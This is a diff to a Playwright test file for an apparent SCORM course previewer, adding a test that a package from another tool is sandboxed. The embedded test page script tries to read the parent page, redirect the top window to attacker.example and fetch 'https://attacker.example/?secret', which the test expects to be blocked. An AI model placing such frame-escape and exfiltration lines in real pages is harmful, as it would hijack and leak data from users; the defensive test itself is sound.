@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 import subprocess
 import sys
@@ -11,14 +12,19 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import BrowserContext, expect
 
+from tests.corpus.zips_scorm import OLD, PAGES
 from tests.e2e.audit import ALL_RULES, bring_judges
 from tests.e2e.learner import listen
+from tests.verify.lab import Member, make_zip
 
 ROOT = Path(__file__).resolve().parents[2]
 
 
 @pytest.fixture
-def course(tmp_path: Path) -> Path:
+def course(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
+    """What is previewed: a copy of the small course, or what the fixture of the parameter's name makes."""
+    if name := getattr(request, "param", ""):
+        return Path(request.getfixturevalue(name))
     shutil.copytree(ROOT / "tests" / "small_course", tmp_path / "course")
     return tmp_path / "course"
 
@@ -60,7 +66,8 @@ def test_a_page_is_played_saved_and_shown_again_where_it_was(
     expect(view.locator("#M1-02[data-current]")).to_contain_text("A word to the end.")
     expect(view.get_by_role("complementary", name="Error in the course")).to_contain_text("did you mean 'callout'?")
     tab.get_by_role("tab", name="Problems").click()
-    expect(tab.get_by_role("tabpanel", name="Problems").get_by_role("link")).to_contain_text("02-check.md")
+    places = tab.get_by_role("tabpanel", name="Problems").get_by_role("link")
+    expect(places).to_have_text([re.compile(f"02-check.md:{line}$") for line in (12, 7, 10)])
 
     tab.get_by_role("tab", name="Faults").click()
     faults = tab.get_by_role("tabpanel", name="Faults")
@@ -90,3 +97,44 @@ def test_a_page_is_played_saved_and_shown_again_where_it_was(
     found = tab.evaluate("(rules) => axe.run({ exclude: ['iframe'] }, rules)", ALL_RULES)
     assert [violation["id"] for violation in found["violations"]] == []
     assert complaints == []
+
+
+#: A page of another tool, which does what such pages do, and then what none should.
+PAGE = """<!doctype html><title>Other</title><script>
+let api = null;
+for (let at = window; at !== at.parent && !api; at = at.parent) api = at.parent.API;
+api.LMSInitialize();
+api.LMSSetValue("cmi.core.score.raw", 80);
+api.LMSSetValue("cmi.student_preference.language", "en");
+api.LMSSetValue("cmi.core.lesson_status", "finished");
+api.LMSCommit("");
+const said = [];
+const attempt = (name, act) => { try { act(); } catch (problem) { said.push(`${name}: ${problem.name}`); } };
+attempt("read", () => top.document.title);
+attempt("leave", () => { top.location = "https://attacker.example/"; });
+fetch("https://attacker.example/?secret").catch(() => { document.title = said.join(" "); });
+</script>"""
+
+
+@pytest.fixture
+def other(tmp_path: Path) -> Path:
+    """A package that another tool made."""
+    files = {"imsmanifest.xml": OLD.encode(), **PAGES, "index.html": PAGE.encode()}
+    (tmp_path / "other.zip").write_bytes(make_zip([Member(name, content) for name, content in files.items()]))
+    return tmp_path / "other.zip"
+
+
+@pytest.mark.parametrize("course", ["other"], indirect=True)
+def test_a_package_of_another_tool_is_played_and_reaches_neither_the_inspector_nor_another_site(
+    address: str, context: BrowserContext
+) -> None:
+    tab = context.new_page()
+    tab.goto(address)
+    tab.get_by_role("tab", name="Calls").click()
+    calls = tab.get_by_role("tabpanel", name="Calls")
+    expect(calls.get_by_role("row", name="LMSSetValue(cmi.core.score.raw) 80 true")).to_be_visible()
+    expect(calls.get_by_role("row", name="lesson_status")).to_contain_text("Refused. 405: Incorrect data type")
+    expect(calls.get_by_role("row", name="Blocked")).to_contain_text("https://attacker.example/")
+    package = next(frame for frame in tab.frames if "/package/" in frame.url)
+    package.wait_for_function("document.title === 'read: SecurityError leave: SecurityError'")
+    assert tab.url == address
